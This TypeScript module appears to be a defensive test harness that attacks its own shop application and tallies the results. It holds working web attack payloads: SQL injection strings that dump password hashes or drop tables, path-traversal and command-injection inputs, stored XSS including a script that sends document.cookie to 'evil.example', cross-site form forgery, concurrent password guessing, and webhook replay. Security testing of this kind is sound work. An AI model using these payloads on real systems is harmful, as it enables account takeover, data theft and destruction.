import type { Delivery } from '../payments/webhook.ts'
import { createBrowser, type Browser, type Seen } from './browser.ts'
import type { Tally } from './tally.ts'

/** What the attacker holds: an account of his own kind, and a webhook he has overheard. */
export interface Loot {
  readonly account: { readonly email: string; readonly password: string }
  readonly webhook: Delivery | undefined
  readonly logins: number
}

/** Tries what real shops see every day, and counts what came of it. */
export async function attack(origin: string, tally: Tally, loot: Loot): Promise<void> {
  const victim = createBrowser(origin, '203.0.113.7')
  await victim.post('/login', loot.account)
  const product = /href="(\/products\/[^"]+)"/.exec((await victim.get('/search')).text)?.[1]

  await forgeForms(victim, tally)
  await injectSql(createBrowser(origin, '203.0.113.66'), tally)
  await injectIntoAdmin(createBrowser(origin, '203.0.113.67'), tally)
  if (product !== undefined) await plantScripts(victim, tally, product)
  await guessPasswords(createBrowser(origin, '203.0.113.66'), tally, loot)
  if (loot.webhook) await replayWebhook(origin, tally, loot.webhook)
  await sendTooMuch(origin, tally)
}

/** Forms on a page of the attacker's, sent by the victim's own browser with the victim's cookie. */
async function forgeForms(victim: Browser, tally: Tally): Promise<void> {
  const elsewhere = { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }
  for (const path of ['/account/erase', '/cart', '/checkout', '/logout', '/admin/erase'])
    for (let i = 0; i < 4; i++) note(tally, 'forged form', await victim.post(path, { customer: '2' }, elsewhere))
}

async function injectSql(browser: Browser, tally: Tally): Promise<void> {
  const payloads = [
    "' or '1'='1",
    "' union select email, password_hash from customers --",
    "'; drop table orders; --",
    "1' and (select pg_sleep(5)) is null --",
    "') or exists(select 1 from customers where role = 'staff') --",
  ]
  for (const payload of payloads)
    for (const name of ['q', 'max', 'sort', 'page']) {
      const seen = await browser.get(`/search?${name}=${encodeURIComponent(payload)}`)
      note(tally, 'SQL injection', seen, seen.text.includes('scrypt$') ? 'LEAKED PASSWORDS' : 'taken as words')
    }
}

async function injectIntoAdmin(browser: Browser, tally: Tally): Promise<void> {
  for (const payload of ["' or '1'='1' --", '../../etc/passwd', '<script>alert(1)</script>', '$(cat /etc/passwd)'])
    note(tally, 'attack on the admin', await browser.get(`/admin?customer=${encodeURIComponent(payload)}`))
}

async function plantScripts(victim: Browser, tally: Tally, product: string): Promise<void> {
  const payloads = [
    '<script>fetch("//evil.example?"+document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">cheap</a>',
  ]
  for (const payload of payloads) {
    const sent = await victim.post(`${product}/reviews`, { rating: '5', title: 'Nice', body: payload })
    const page = await victim.get(product)
    note(tally, 'script in a review', sent, page.text.includes(payload) ? 'SHOWN AS MARKUP' : 'kept without the script')
  }
}

async function guessPasswords(browser: Browser, tally: Tally, { account, logins }: Loot): Promise<void> {
  let left = logins
  const worker = async () => {
    while (left-- > 0)
      note(
        tally,
        'password guess',
        await browser.post('/login', { email: account.email, password: `guess number ${left}` }),
      )
  }
  await Promise.all(Array.from({ length: 20 }, worker))
}

async function replayWebhook(origin: string, tally: Tally, { body, signature }: Delivery): Promise<void> {
  const send = async (what: string, payload: string, header: string) => {
    const response = await fetch(new URL('/webhooks/payment', origin), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'stripe-signature': header, 'x-forwarded-for': '203.0.113.66' },
      body: payload,
    })
    const answer = (await response.json()) as { applied?: boolean; type?: string }
    tally.add(
      what,
      response.status,
      answer.type?.split(':').at(-1) ?? (answer.applied ? 'APPLIED AGAIN' : 'known already, no effect'),
    )
  }
  for (let i = 0; i < 10; i++) await send('replayed webhook', body, signature)
  for (let i = 0; i < 5; i++)
    await send('altered webhook', body.replace(/"order_id":"\d+"/, `"order_id":"${i + 1}"`), signature)
  for (let i = 0; i < 5; i++)
    await send('unsigned webhook', body, `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`)
}

async function sendTooMuch(origin: string, tally: Tally): Promise<void> {
  const body = `product=${'x'.repeat(10_000_000)}`
  for (const path of ['/cart', '/login', '/webhooks/payment']) {
    const browser = createBrowser(origin, '203.0.113.66')
    note(tally, '10 MB body', await browser.post(path, { product: body }))
  }
}

function note(tally: Tally, what: string, seen: Seen, cause = ''): void {
  tally.add(what, seen.status, seen.cause || cause)
}
